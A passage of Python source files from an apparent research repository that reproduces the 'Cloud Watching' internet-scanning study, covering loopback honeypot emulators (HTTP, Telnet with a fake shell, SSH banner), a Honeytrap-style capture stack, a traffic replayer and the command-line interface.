            except asyncio.TimeoutError:
                break
            if not chunk:
                break
            buffer += chunk
        return buffer

    async def replay(self, intent: ScanIntent, port_map: dict[int, int]) -> None:
        """Replay one intent; ``port_map`` maps intent ports to bound ports."""
        port = port_map.get(intent.dst_port, intent.dst_port)
        if intent.credentials and intent.protocol == "telnet":
            await self.login_session(port, intent.credentials, commands=intent.commands)
        else:
            await self.send_payload(port, intent.payload)


async def replay_intents(
    intents: Iterable[ScanIntent],
    port_map: dict[int, int],
    host: str = "127.0.0.1",
    concurrency: int = 8,
) -> int:
    """Replay many intents with bounded concurrency; returns the count."""
    client = ReplayClient(host=host)
    semaphore = asyncio.Semaphore(concurrency)
    count = 0

    async def _one(intent: ScanIntent) -> None:
        async with semaphore:
            await client.replay(intent, port_map)

    tasks = [asyncio.create_task(_one(intent)) for intent in intents]
    for task in tasks:
        await task
        count += 1
    return count
