"""Live asyncio honeypots and the loopback traffic replayer."""

from repro.honeypots.live.replay import ReplayClient, replay_intents
from repro.honeypots.live.server import (
    FirstPayloadService,
    HttpService,
    LiveHoneypot,
    ServiceEmulator,
    SshBannerService,
    TelnetService,
    live_vantage,
)

__all__ = [
    "ReplayClient", "replay_intents",
    "FirstPayloadService", "HttpService", "LiveHoneypot",
    "ServiceEmulator", "SshBannerService", "TelnetService", "live_vantage",
]
