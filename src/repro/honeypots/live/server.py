"""Live asyncio honeypots: real sockets, same capture semantics.

These servers implement the capture behaviors of the simulated stacks on
actual TCP sockets, so the repository's capture logic can be exercised
end-to-end over loopback:

* :class:`FirstPayloadService` — Honeytrap semantics: complete the TCP
  handshake (implicit in accepting), read the first payload, record it.
* :class:`HttpService` — additionally answer with a minimal banner page
  (what makes a honeypot look like a real service to crawlers).
* :class:`TelnetService` — Cowrie-style interactive login emulation:
  prompts for username/password and records every attempt.
* :class:`SshBannerService` — SSH identification-string exchange and
  first-packet capture.  Full SSH cryptography is out of scope (no
  crypto dependencies are available); credential-level SSH capture is
  exercised by the simulated Cowrie stack instead.

The server records :class:`~repro.sim.events.CapturedEvent` objects, the
same schema the simulator produces, so every analysis runs unchanged on
live-captured traffic.
"""

from __future__ import annotations

import asyncio
import time
from dataclasses import dataclass, field
from typing import Callable, Optional

from repro.net.addresses import ip_to_int
from repro.net.packets import Transport
from repro.sim.events import CapturedEvent, NetworkKind

__all__ = [
    "ServiceEmulator",
    "FirstPayloadService",
    "HttpService",
    "TelnetService",
    "SshBannerService",
    "LiveHoneypot",
]

_READ_LIMIT = 64 * 1024


class ServiceEmulator:
    """One emulated service: how to converse and what to capture."""

    #: Seconds to wait for client data before giving up on a read.
    read_timeout: float = 5.0
    #: Hard cap on the recorded first payload.  A scanner that streams
    #: an arbitrarily large body must not grow the capture unboundedly:
    #: reads stop at this many bytes and the remainder is never buffered.
    max_payload_bytes: int = 8 * 1024
    #: Hard cap on one line of a line-oriented conversation; longer
    #: lines are truncated to this many bytes rather than buffered.
    max_line_bytes: int = 1024

    async def handle(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> tuple[bytes, tuple[tuple[str, str], ...], tuple[str, ...]]:
        """Run the conversation; return (first_payload, credentials,
        post-login shell commands)."""
        raise NotImplementedError

    async def _read_some(self, reader: asyncio.StreamReader) -> bytes:
        limit = min(self.max_payload_bytes, _READ_LIMIT)
        try:
            return await asyncio.wait_for(reader.read(limit), timeout=self.read_timeout)
        except asyncio.TimeoutError:
            return b""


class FirstPayloadService(ServiceEmulator):
    """Honeytrap: record the first TCP payload after the handshake."""

    async def handle(self, reader, writer):
        payload = await self._read_some(reader)
        return payload, (), ()


class HttpService(ServiceEmulator):
    """A vulnerable-looking HTTP responder that records the request."""

    server_header = "Apache/2.4.29 (Ubuntu)"

    async def handle(self, reader, writer):
        payload = await self._read_some(reader)
        if payload:
            body = b"<html><body><h1>It works!</h1></body></html>"
            response = (
                b"HTTP/1.1 200 OK\r\n"
                b"Server: " + self.server_header.encode("ascii") + b"\r\n"
                b"Content-Type: text/html\r\n"
                b"Content-Length: " + str(len(body)).encode("ascii") + b"\r\n"
                b"Connection: close\r\n\r\n" + body
            )
            writer.write(response)
            await writer.drain()
        return payload, (), ()


class TelnetService(ServiceEmulator):
    """Cowrie-style Telnet login emulation with a fake shell.

    Rejects the first ``accept_after - 1`` credential attempts, then
    "accepts" the next one and presents a fake busybox shell, recording
    every command until the intruder exits (Cowrie's command capture).
    Set ``accept_after=0`` to never accept.
    """

    banner = b"\r\nlogin: "
    shell_prompt = b"\r\n$ "
    max_attempts = 6
    max_commands = 32

    def __init__(self, accept_after: int = 0) -> None:
        if accept_after < 0:
            raise ValueError("accept_after must be >= 0")
        self.accept_after = accept_after

    async def _read_line(self, reader: asyncio.StreamReader) -> Optional[bytes]:
        try:
            line = await asyncio.wait_for(reader.readline(), timeout=self.read_timeout)
        except asyncio.TimeoutError:
            return None
        except (ValueError, asyncio.LimitOverrunError, asyncio.IncompleteReadError):
            # A line longer than the stream's buffer limit: drop the
            # connection's pathological input rather than buffering it.
            return None
        if not line:
            return None
        return line.strip(b"\r\n")[: self.max_line_bytes]

    async def _run_shell(self, reader, writer) -> list[str]:
        commands: list[str] = []
        writer.write(b"\r\nBusyBox v1.20.2 built-in shell (ash)")
        for _turn in range(self.max_commands):
            writer.write(self.shell_prompt)
            await writer.drain()
            line = await self._read_line(reader)
            if line is None:
                break
            command = line.decode("utf-8", errors="replace").strip()
            if not command:
                continue
            if command in ("exit", "quit", "logout"):
                break
            commands.append(command)
            writer.write(b"\r\n")  # every command "succeeds" silently
            await writer.drain()
        return commands

    async def handle(self, reader, writer):
        credentials: list[tuple[str, str]] = []
        commands: list[str] = []
        first_payload = b""
        writer.write(self.banner)
        await writer.drain()
        for attempt in range(1, self.max_attempts + 1):
            username = await self._read_line(reader)
            if username is None:
                break
            if not first_payload:
                first_payload = username
            writer.write(b"Password: ")
            await writer.drain()
            password = await self._read_line(reader)
            if password is None:
                break
            credentials.append(
                (
                    username.decode("utf-8", errors="replace"),
                    password.decode("utf-8", errors="replace"),
                )
            )
            if self.accept_after and attempt >= self.accept_after:
                commands = await self._run_shell(reader, writer)
                break
            writer.write(b"\r\nLogin incorrect\r\nlogin: ")
            await writer.drain()
        return first_payload, tuple(credentials), tuple(commands)


class SshBannerService(ServiceEmulator):
    """SSH identification exchange + first-packet capture."""

    banner = b"SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5\r\n"

    async def handle(self, reader, writer):
        writer.write(self.banner)
        await writer.drain()
        payload = await self._read_some(reader)
        return payload, (), ()


@dataclass
class LiveHoneypot:
    """An asyncio honeypot exposing emulated services on loopback ports.

    ``services`` maps a requested port to an emulator; a requested port
    of 0 or any negative number binds an OS-assigned ephemeral port
    (negative keys let one honeypot host several ephemeral services).
    After :meth:`start`, :attr:`bound_ports` maps each requested key to
    the port actually listening.  Captured events accumulate in
    :attr:`events` with the same schema the simulator emits.
    """

    vantage_id: str = "live-0"
    network: str = "stanford"
    kind: NetworkKind = NetworkKind.EDU
    region: str = "US-WEST"
    host: str = "127.0.0.1"
    services: dict[int, ServiceEmulator] = field(default_factory=dict)
    asn_lookup: Optional[Callable[[int], int]] = None
    events: list[CapturedEvent] = field(default_factory=list)
    #: Called with each event as it is recorded (the streaming tap).
    on_event: Optional[Callable[[CapturedEvent], None]] = None
    #: Concurrent-session cap across all services (0 = unlimited); a
    #: connection arriving at the cap is closed immediately and counted
    #: in :attr:`rejected_connections`.
    max_connections: int = 0
    #: StreamReader buffer bound per connection (bytes).
    read_limit: int = _READ_LIMIT

    def __post_init__(self) -> None:
        self._servers: list[asyncio.base_events.Server] = []
        self.bound_ports: dict[int, int] = {}  # requested -> actual
        self._started_at = 0.0
        self._active_handlers = 0
        self._idle = asyncio.Event()
        self._idle.set()
        self.rejected_connections = 0

    async def start(self) -> None:
        if self._servers:
            raise RuntimeError("honeypot already started")
        self._started_at = time.monotonic()
        for requested_port, emulator in self.services.items():
            bind_port = max(requested_port, 0)
            server = await asyncio.start_server(
                self._make_handler(requested_port, emulator), self.host, bind_port,
                limit=self.read_limit,
            )
            actual_port = server.sockets[0].getsockname()[1]
            self.bound_ports[requested_port] = actual_port
            self._servers.append(server)

    async def stop(self, drain_timeout: float = 10.0) -> None:
        """Stop listening, then wait for in-flight sessions to finish
        recording (bounded by ``drain_timeout``)."""
        for server in self._servers:
            server.close()
            await server.wait_closed()
        self._servers.clear()
        try:
            await asyncio.wait_for(self._idle.wait(), timeout=drain_timeout)
        except asyncio.TimeoutError:
            pass

    async def __aenter__(self) -> "LiveHoneypot":
        await self.start()
        return self

    async def __aexit__(self, *exc_info) -> None:
        await self.stop()

    def _timestamp_hours(self) -> float:
        return (time.monotonic() - self._started_at) / 3600.0

    def _make_handler(self, requested_port: int, emulator: ServiceEmulator):
        async def _handler(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            if self.max_connections and self._active_handlers >= self.max_connections:
                self.rejected_connections += 1
                writer.close()
                try:
                    await writer.wait_closed()
                except (ConnectionResetError, BrokenPipeError):
                    pass
                return
            self._active_handlers += 1
            self._idle.clear()
            peer = writer.get_extra_info("peername") or ("0.0.0.0", 0)
            sock = writer.get_extra_info("sockname") or (self.host, requested_port)
            src_ip = ip_to_int(peer[0]) if "." in str(peer[0]) else 0
            try:
                try:
                    payload, credentials, commands = await emulator.handle(reader, writer)
                except (ConnectionResetError, BrokenPipeError):
                    payload, credentials, commands = b"", (), ()
                finally:
                    writer.close()
                    try:
                        await writer.wait_closed()
                    except (ConnectionResetError, BrokenPipeError):
                        pass
                event = CapturedEvent(
                    vantage_id=self.vantage_id,
                    network=self.network,
                    network_kind=self.kind,
                    region=self.region,
                    timestamp=self._timestamp_hours(),
                    src_ip=src_ip,
                    src_asn=self.asn_lookup(src_ip) if self.asn_lookup else 0,
                    dst_ip=ip_to_int(sock[0]) if "." in str(sock[0]) else 0,
                    dst_port=requested_port if requested_port > 0 else sock[1],
                    transport=Transport.TCP,
                    handshake=True,
                    payload=payload,
                    credentials=credentials,
                    commands=commands,
                )
                self.events.append(event)
                if self.on_event is not None:
                    self.on_event(event)
            finally:
                self._active_handlers -= 1
                if self._active_handlers == 0:
                    self._idle.set()

        return _handler


def live_vantage(honeypot: LiveHoneypot) -> "VantagePoint":
    """Wrap a live honeypot as a VantagePoint so its captured events can
    feed the same :class:`~repro.analysis.dataset.AnalysisDataset`
    pipeline the simulator's events do."""
    import numpy as np

    from repro.honeypots.base import VantagePoint
    from repro.honeypots.honeytrap import HoneytrapStack
    from repro.net.addresses import ip_to_int

    return VantagePoint(
        vantage_id=honeypot.vantage_id,
        network=honeypot.network,
        kind=honeypot.kind,
        region_code=honeypot.region,
        continent="NA",
        ips=np.asarray([ip_to_int(honeypot.host)], dtype=np.uint32),
        stack=HoneytrapStack(),
    )
