"""Honeytrap-style first-payload capture.

The education-network and author-deployed cloud honeypots "use the
Honeytrap framework ... configure[d] to collect the first UDP payload or
the first TCP payload after completing a TCP handshake" (Section 3.1).
Honeytrap observes *all* ports, which is what enables the Section 6
unexpected-protocol analysis.

For the search-engine leak experiment the authors additionally emulate
SSH/22, Telnet/23, and HTTP/80 services; ``interactive_ports`` enables
Cowrie-like credential capture on those ports for that deployment.
"""

from __future__ import annotations

from typing import Optional

import numpy as np

from repro.honeypots.base import CaptureStack, VantagePoint
from repro.io.table import TRANSPORT_CODES
from repro.net.packets import Transport
from repro.sim.events import CapturedEvent, IntentBatch, ScanIntent

__all__ = ["HoneytrapStack"]


class HoneytrapStack(CaptureStack):
    """All-port, first-payload capture with optional interactive ports."""

    name = "Honeytrap"
    completes_handshake = True

    def __init__(self, interactive_ports: frozenset[int] = frozenset()) -> None:
        self._interactive_ports = frozenset(interactive_ports)

    def observes(self, port: int) -> bool:
        return True

    def capture(
        self, intent: ScanIntent, vantage: VantagePoint, src_asn: int
    ) -> Optional[CapturedEvent]:
        credentials: tuple[tuple[str, str], ...] = ()
        if intent.dst_port in self._interactive_ports:
            credentials = tuple(credential.as_tuple() for credential in intent.credentials)
        return self._base_event(
            intent,
            vantage,
            src_asn,
            handshake=True,
            payload=intent.payload,
            credentials=credentials,
        )

    def capture_batch_columns(self, batch: IntentBatch, src_asns: np.ndarray) -> dict:
        interactive = batch.dst_port in self._interactive_ports
        return {
            "timestamps": batch.timestamps,
            "src_ip": batch.src_ips,
            "src_asn": src_asns,
            "dst_ip": batch.dst_ips,
            "dst_port": batch.dst_port,
            "transport_code": TRANSPORT_CODES[batch.transport],
            "handshake": batch.transport is Transport.TCP,
            "payload": batch.payloads,
            "credentials": batch.credentials if interactive else (),
            "commands": (),
        }

    def batch_policy_key(self, port: int) -> tuple:
        return ("honeytrap", port in self._interactive_ports)
