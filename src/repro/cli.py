"""Command-line entry point.

Subcommands::

    cloudwatching list                      # experiments available
    cloudwatching run T8 T9 --scale 0.5     # regenerate paper tables
    cloudwatching run all
    cloudwatching simulate out.ndjson.gz    # write a dataset release
    cloudwatching orchestrate --workers auto --out runs/full --resume
    cloudwatching honeypots --port 8080=http --port 2323=telnet --duration 30
    cloudwatching watch --simulate --scale 0.05     # stream a tapped sim
    cloudwatching watch --run-dir runs/full         # stream spilled shards
    cloudwatching watch --live --port 2323=telnet   # stream a live fleet
    cloudwatching serve --run-dir runs/full         # query API over a run
    cloudwatching serve --simulate --scale 0.1      # query API over live sketches
    cloudwatching lint src --format json            # invariant checker
"""

from __future__ import annotations

import argparse
import inspect
import sys
import time

from repro.experiments import ALL_EXPERIMENTS, get_context

#: Temporal experiments run on their own year's population.
EXPERIMENT_YEARS: dict[str, int] = {
    "T12": 2020, "T13": 2020, "T16": 2020,
    "T14": 2022, "T15": 2022, "T17": 2022,
}


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="cloudwatching",
        description="Reproduce the tables and figures of 'Cloud Watching' (IMC 2023).",
    )
    subparsers = parser.add_subparsers(dest="command", required=True)

    subparsers.add_parser("list", help="list available experiments")

    runner = subparsers.add_parser("run", help="run one or more experiments")
    runner.add_argument("experiments", nargs="+",
                        help="experiment ids (T1..T17, F1, M1, X1..X3) or 'all'")
    runner.add_argument("--blocklist", default=None, metavar="FILE",
                        help="external blocklist file (dotted-quad IPs and "
                             "AS<number> lines) for drivers that accept one "
                             "(X1 evaluates it in place of the regional lists)")
    runner.add_argument("--output", default=None, metavar="REPORT.md",
                        help="additionally write the results as a Markdown report")
    _add_sim_args(runner)

    simulate = subparsers.add_parser(
        "simulate", help="simulate a week and write the NDJSON dataset release"
    )
    simulate.add_argument("output", help="output path (.ndjson or .ndjson.gz)")
    simulate.add_argument("--year", type=int, default=2021, choices=(2020, 2021, 2022))
    _add_sim_args(simulate)

    orchestrate = subparsers.add_parser(
        "orchestrate",
        help="sharded parallel run: simulate on worker processes, spill "
             "shards, merge, and run cached experiments",
    )
    orchestrate.add_argument("--workers", type=_workers_arg, default=2,
                             help="worker processes: a count or 'auto' "
                                  "(CPU-derived; default 2)")
    orchestrate.add_argument("--out", default="orchestrate-out", metavar="DIR",
                             help="run directory for shards, cache, and run.json")
    orchestrate.add_argument("--shards", type=int, default=None,
                             help="shard count (default: --workers)")
    orchestrate.add_argument("--resume", action="store_true",
                             help="skip shards whose manifests verify complete")
    orchestrate.add_argument("--max-retries", type=int, default=2,
                             help="per-shard retry budget before degrading "
                                  "to partial coverage (default 2)")
    orchestrate.add_argument("--experiments", nargs="*", default=None, metavar="ID",
                             help="experiment ids to schedule (default: all "
                                  "for the year; pass none to skip analysis)")
    orchestrate.add_argument("--year", type=int, default=2021, choices=(2020, 2021, 2022))
    _add_sim_args(orchestrate)

    bench = subparsers.add_parser(
        "bench", help="time the simulate→analyze pipeline, append BENCH_simulation.json"
    )
    bench.add_argument("--scale", type=float, default=1.0,
                       help="population scale factor (default 1.0, the pinned bench scale)")
    bench.add_argument("--telescope", type=int, default=16,
                       help="telescope size in /24s (default 16)")
    bench.add_argument("--seed", type=int, default=777)
    bench.add_argument("--year", type=int, default=2021, choices=(2020, 2021, 2022))
    bench.add_argument("--emission", default="batch", choices=("batch", "scalar"),
                       help="event-emission mode to benchmark (default batch)")
    bench.add_argument("--experiments", nargs="*", default=None, metavar="ID",
                       help="experiment ids to time (default: all for the "
                            "year; pass no values to skip analysis timing)")
    bench.add_argument("--orchestrate-workers", nargs="*", type=int,
                       default=(1, 2, 4), metavar="N",
                       help="worker counts to time the orchestrator at "
                            "(default: 1 2 4; pass no values to skip)")
    bench.add_argument("--orchestrate-sweep", action="store_true",
                       help="time the canonical 1/2/4-worker orchestrator sweep "
                            "and record speedup ratios vs 1 worker")
    bench.add_argument("--stream", action="store_true",
                       help="benchmark sustained ingest through the streaming "
                            "subsystem instead of the simulate→analyze path")
    bench.add_argument("--incident", action="store_true",
                       help="benchmark the incident closed loop: detection "
                            "seconds, detection latency, volume reduction, "
                            "and the enforced re-simulation self-check")
    bench.add_argument("--serve", action="store_true",
                       help="benchmark the HTTP serving layer: live queries "
                            "during ingest, then sustained concurrent load "
                            "against a run-dir backend")
    bench.add_argument("--connections", type=int, default=1000,
                       help="serve bench: concurrent keep-alive clients for "
                            "the run-dir phase (default 1000)")
    bench.add_argument("--duration", type=float, default=5.0,
                       help="serve bench: seconds of sustained load (default 5)")
    bench.add_argument("--output", default=None, metavar="BENCH.json",
                       help="artifact path (default BENCH_simulation.json)")

    watch = subparsers.add_parser(
        "watch",
        help="attach the streaming pipeline to a source and render "
             "periodic snapshots (top-k sketches, rates, leak alarms)",
    )
    source = watch.add_mutually_exclusive_group()
    source.add_argument("--simulate", action="store_true",
                        help="tap a fresh simulation (default source)")
    source.add_argument("--run-dir", default=None, metavar="DIR",
                        help="stream a 'cloudwatching orchestrate' output directory")
    source.add_argument("--live", action="store_true",
                        help="serve live honeypots on loopback and stream them")
    watch.add_argument("--year", type=int, default=2021, choices=(2020, 2021, 2022))
    _add_sim_args(watch)
    watch.add_argument("--sketch-k", type=int, default=64,
                       help="Space-Saving capacity per characteristic (default 64)")
    watch.add_argument("--top-k", type=int, default=3,
                       help="categories per snapshot table (default 3, the §3.3 k)")
    watch.add_argument("--snapshot-events", type=int, default=25000,
                       help="snapshot every N events (0 = final only; default 25000)")
    watch.add_argument("--max-snapshots", type=int, default=0,
                       help="stop periodic snapshots after N (0 = unlimited)")
    watch.add_argument("--chunk-events", type=int, default=4096,
                       help="rows per chunk when streaming stored tables (default 4096)")
    watch.add_argument("--queue-events", type=int, default=65536,
                       help="bus buffer bound in events (default 65536)")
    watch.add_argument("--policy", default="backpressure",
                       choices=("backpressure", "drop"),
                       help="bus overflow policy (default backpressure)")
    watch.add_argument("--trailing-hours", type=int, default=None,
                       help="leak-alarm trailing window in sealed hours "
                            "(default: the full observation window)")
    watch.add_argument("--follow", type=float, default=0.0, metavar="SECONDS",
                       help="run-dir source: keep polling for new shards this long")
    watch.add_argument("--port", action="append", default=[], metavar="PORT=SERVICE",
                       help="live source: e.g. 8080=http, 2323=telnet (repeatable)")
    watch.add_argument("--duration", type=float, default=30.0,
                       help="live source: seconds to serve (default 30)")
    watch.add_argument("--interval", type=float, default=5.0,
                       help="live source: seconds between snapshots (default 5)")
    watch.add_argument("--host", default="127.0.0.1")
    watch.add_argument("--max-connections", type=int, default=0,
                       help="live source: concurrent-session cap (0 = unlimited)")
    watch.add_argument("--no-incidents", action="store_true",
                       help="disable incident detection (on by default)")
    watch.add_argument("--audit-log", default=None, metavar="FILE",
                       help="write the incident audit log (NDJSON) here at the end")
    watch.add_argument("--format", default="text", choices=("text", "json"),
                       help="snapshot rendering: tables or one JSON object "
                            "per snapshot (default text)")

    honeypots = subparsers.add_parser(
        "honeypots", help="run live honeypots on loopback and print captures"
    )
    honeypots.add_argument("--port", action="append", default=[], metavar="PORT=SERVICE",
                           help="e.g. 8080=http, 2323=telnet, 2222=ssh, 9000=raw "
                                "(repeatable; default: 8080=http 2323=telnet)")
    honeypots.add_argument("--duration", type=float, default=30.0,
                           help="seconds to serve before exiting (default 30)")
    honeypots.add_argument("--host", default="127.0.0.1")

    serve = subparsers.add_parser(
        "serve",
        help="HTTP query API over a run directory (exact batch answers) "
             "or a live tapped simulation (sketch estimates)",
    )
    serve_source = serve.add_mutually_exclusive_group()
    serve_source.add_argument("--run-dir", default=None, metavar="DIR",
                              help="serve a 'cloudwatching orchestrate' output "
                                   "directory exactly, with a content-addressed "
                                   "response cache")
    serve_source.add_argument("--simulate", action="store_true",
                              help="serve live sketch state while a tapped "
                                   "simulation streams in (default source)")
    serve.add_argument("--year", type=int, default=2021, choices=(2020, 2021, 2022))
    _add_sim_args(serve)
    serve.add_argument("--host", default="127.0.0.1")
    serve.add_argument("--port", type=int, default=0,
                       help="listen port (default 0 = OS-assigned, printed at start)")
    serve.add_argument("--backlog", type=int, default=512,
                       help="listen backlog (default 512)")
    serve.add_argument("--max-connections", type=int, default=4096,
                       help="concurrent-connection cap, 503 + counted rejection "
                            "beyond it (0 = unlimited; default 4096)")
    serve.add_argument("--max-request-bytes", type=int, default=8192,
                       help="request-head byte cap (default 8192)")
    serve.add_argument("--read-timeout", type=float, default=30.0,
                       help="idle keep-alive read timeout in seconds (default 30)")
    serve.add_argument("--keepalive-requests", type=int, default=0,
                       help="requests per connection before close (0 = unlimited)")
    serve.add_argument("--duration", type=float, default=0.0,
                       help="seconds to serve before draining (0 = until interrupted)")
    serve.add_argument("--sketch-k", type=int, default=64,
                       help="simulate source: Space-Saving capacity (default 64)")
    serve.add_argument("--queue-events", type=int, default=65536,
                       help="simulate source: bus buffer bound in events (default 65536)")
    serve.add_argument("--incidents", action="store_true",
                       help="simulate source: run live incident detection and "
                            "serve /incidents and /actions (run-dir backends "
                            "always serve them, computed post hoc)")

    respond = subparsers.add_parser(
        "respond",
        help="post-hoc incident detection + runbook response over an "
             "orchestrate run directory: prints the incident census and "
             "writes the audit log / emitted blocklist",
    )
    respond.add_argument("--run-dir", required=True, metavar="DIR",
                         help="a completed 'cloudwatching orchestrate' output")
    respond.add_argument("--audit-log", default=None, metavar="FILE",
                         help="write the NDJSON audit log here")
    respond.add_argument("--blocklist-out", default=None, metavar="FILE",
                         help="write the emitted blocklist here (AS<number> "
                              "lines, the format 'run X1 --blocklist' reads)")
    respond.add_argument("--quiet-hours", type=int, default=12,
                         help="hours of silence before an incident resolves "
                              "(default 12)")

    lint = subparsers.add_parser(
        "lint",
        help="AST-based invariant checker: RNG/determinism/lock/columnar/"
             "exception disciplines (exit 1 on non-baselined findings)",
    )
    from repro.lint.cli import add_arguments as _add_lint_arguments

    _add_lint_arguments(lint)
    return parser


def _workers_arg(text: str):
    """``--workers`` value: a positive integer or the string 'auto'."""
    if text == "auto":
        return "auto"
    try:
        value = int(text)
    except ValueError:
        raise argparse.ArgumentTypeError(
            f"expected a positive integer or 'auto', got {text!r}"
        ) from None
    if value < 1:
        raise argparse.ArgumentTypeError("workers must be >= 1 (or 'auto')")
    return value


def _add_sim_args(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--scale", type=float, default=0.5,
                        help="population scale factor (default 0.5)")
    parser.add_argument("--telescope", type=int, default=16,
                        help="telescope size in /24s (default 16)")
    parser.add_argument("--seed", type=int, default=20230701)


def _sim_config(args: argparse.Namespace, year: int | None = None):
    """Validate the CLI's simulation arguments through the serve schema.

    Every subcommand that starts the engine goes through the same
    :class:`~repro.serve.schema.SimulationPayload` contract the API
    uses, so a bad ``--scale`` fails identically over argv and HTTP.
    Returns the validated ExperimentConfig, or None after printing the
    structured violations.
    """
    from repro.serve.schema import SchemaError, validate_simulation_config

    try:
        return validate_simulation_config(
            year=year if year is not None else getattr(args, "year", 2021),
            scale=args.scale,
            telescope_slash24s=args.telescope,
            seed=args.seed,
        )
    except SchemaError as error:
        for item in error.errors:
            print(f"error: {item['field']}: {item['message']} "
                  f"(got {item['value']!r})", file=sys.stderr)
        return None


def _experiment_description(driver) -> str:
    """One-line description of a driver: its docstring's first line, or
    the first line of its module docstring when the function has none."""
    doc = driver.__doc__
    if not doc:
        module = inspect.getmodule(driver)
        doc = module.__doc__ if module is not None else None
    if not doc:
        return ""
    return doc.strip().splitlines()[0].strip()


def _command_list() -> int:
    for experiment_id, driver in ALL_EXPERIMENTS.items():
        print(f"{experiment_id:<4} {_experiment_description(driver)}".rstrip())
    return 0


def _command_run(args: argparse.Namespace) -> int:
    requested = list(ALL_EXPERIMENTS) if "all" in args.experiments else args.experiments
    unknown = [e for e in requested if e not in ALL_EXPERIMENTS]
    if unknown:
        print(f"unknown experiments: {', '.join(unknown)}", file=sys.stderr)
        return 2
    blocklist_path = getattr(args, "blocklist", None)
    if blocklist_path is not None:
        import inspect

        takers = [
            experiment_id for experiment_id in requested
            if "blocklist_path"
            in inspect.signature(ALL_EXPERIMENTS[experiment_id]).parameters
        ]
        if not takers:
            print("--blocklist given but none of the requested experiments "
                  "accept one (X1 does)", file=sys.stderr)
            return 2
        from repro.serve.schema import SchemaError, validate_blocklist_file

        try:
            validate_blocklist_file(blocklist_path)
        except SchemaError as error:
            for item in error.as_dict()["errors"]:
                print(f"error: {item['field']}: {item['message']}",
                      file=sys.stderr)
            return 2
    outputs = []
    for experiment_id in requested:
        year = EXPERIMENT_YEARS.get(experiment_id, 2021)
        config = _sim_config(args, year=year)
        if config is None:
            return 2
        context = get_context(config)
        started = time.perf_counter()
        driver = ALL_EXPERIMENTS[experiment_id]
        if blocklist_path is not None and experiment_id in takers:
            output = driver(context, blocklist_path=blocklist_path)
        else:
            output = driver(context)
        outputs.append(output)
        print(output.render())
        print(f"[{experiment_id} completed in "
              f"{time.perf_counter() - started:.1f}s]\n")
    if getattr(args, "output", None):
        from repro.reporting.markdown import write_markdown_report

        written = write_markdown_report(outputs, args.output)
        print(f"markdown report written to {written}")
    return 0


def _command_simulate(args: argparse.Namespace) -> int:
    from repro.io.records import write_events

    config = _sim_config(args)
    if config is None:
        return 2
    context = get_context(config)
    count = write_events(args.output, context.result.events())
    print(f"wrote {count:,} events ({args.year} population, scale {args.scale}) "
          f"to {args.output}")
    return 0


def _command_orchestrate(args: argparse.Namespace) -> int:
    from repro.runner import orchestrate, run_experiments

    config = _sim_config(args)
    if config is None:
        return 2
    run = orchestrate(
        config,
        workers=args.workers,
        out_dir=args.out,
        num_shards=args.shards,
        resume=args.resume,
        max_retries=args.max_retries,
    )
    if run.partial:
        print(f"WARNING: partial coverage ({run.coverage():.0%}); "
              f"missing shards: {sorted(run.failures)}", file=sys.stderr)

    experiment_ids = args.experiments  # None = all for the year; [] = skip
    if experiment_ids is None or experiment_ids:
        scheduled = run_experiments(
            run.context,
            run.dataset_digest,
            experiment_ids=experiment_ids,
            cache_dir=run.out_dir / "cache",
            workers=args.workers,
            say=lambda message: print(message, flush=True),
        )
        for item in scheduled:
            marker = " [cached]" if item.cached else ""
            print(item.output.render())
            print(f"[{item.experiment_id}{marker}]\n")
    return 0


def _command_bench(args: argparse.Namespace) -> int:
    from repro.bench import (
        run_bench,
        run_incident_bench,
        run_serve_bench,
        run_stream_bench,
    )

    if _sim_config(args) is None:
        return 2
    if args.incident:
        run_incident_bench(
            scale=args.scale,
            telescope_slash24s=args.telescope,
            seed=args.seed,
            year=args.year,
            artifact=args.output,
        )
        return 0
    if args.serve:
        run_serve_bench(
            scale=args.scale,
            telescope_slash24s=args.telescope,
            seed=args.seed,
            year=args.year,
            connections=args.connections,
            duration_seconds=args.duration,
            artifact=args.output,
        )
        return 0
    if args.stream:
        run_stream_bench(
            scale=args.scale,
            telescope_slash24s=args.telescope,
            seed=args.seed,
            year=args.year,
            artifact=args.output,
        )
        return 0
    try:
        run_bench(
            scale=args.scale,
            telescope_slash24s=args.telescope,
            seed=args.seed,
            year=args.year,
            emission=args.emission,
            experiments=args.experiments,
            orchestrate_workers=tuple(args.orchestrate_workers),
            orchestrate_sweep=args.orchestrate_sweep,
            artifact=args.output,
        )
    except ValueError as error:
        print(f"error: {error}", file=sys.stderr)
        return 2
    return 0


def _parse_services(specs: list[str], default: list[str]):
    """Parse repeated PORT=SERVICE flags into a services dict (or None)."""
    from repro.honeypots.live import (
        FirstPayloadService,
        HttpService,
        SshBannerService,
        TelnetService,
    )

    factories = {
        "http": HttpService,
        "telnet": TelnetService,
        "ssh": SshBannerService,
        "raw": FirstPayloadService,
    }
    services = {}
    for spec in specs or default:
        port_text, _, kind = spec.partition("=")
        if kind not in factories:
            print(f"unknown service {kind!r} (choose from {sorted(factories)})",
                  file=sys.stderr)
            return None
        services[int(port_text)] = factories[kind]()
    return services


def _command_watch(args: argparse.Namespace) -> int:
    from repro.stream.watch import (
        WatchOptions,
        watch_live,
        watch_run_dir,
        watch_simulation,
    )

    options = WatchOptions(
        sketch_k=args.sketch_k,
        top_k=args.top_k,
        chunk_events=args.chunk_events,
        snapshot_events=args.snapshot_events,
        max_snapshots=args.max_snapshots,
        max_buffered_events=args.queue_events,
        policy=args.policy,
        trailing_hours=args.trailing_hours,
        incidents=not args.no_incidents,
        audit_log=args.audit_log,
        format=args.format,
    )
    if args.run_dir:
        summary = watch_run_dir(args.run_dir, options, follow_seconds=args.follow)
    elif args.live:
        services = _parse_services(args.port, ["8080=http", "2323=telnet"])
        if services is None:
            return 2
        summary = watch_live(
            services,
            duration=args.duration,
            interval=args.interval,
            host=args.host,
            options=options,
            honeypot_kwargs={"max_connections": args.max_connections},
        )
    else:
        config = _sim_config(args)
        if config is None:
            return 2
        summary = watch_simulation(config, options)
    bus = summary["bus"]
    line = (f"watch done: {summary['events']:,} events in {summary['seconds']:.2f}s "
            f"({summary['snapshots']} snapshot(s), {bus['dropped_events']} dropped)")
    incidents = summary.get("incidents")
    if incidents is not None:
        line += (f"; {incidents['incidents']} incident(s), "
                 f"{incidents['actions']} action(s)")
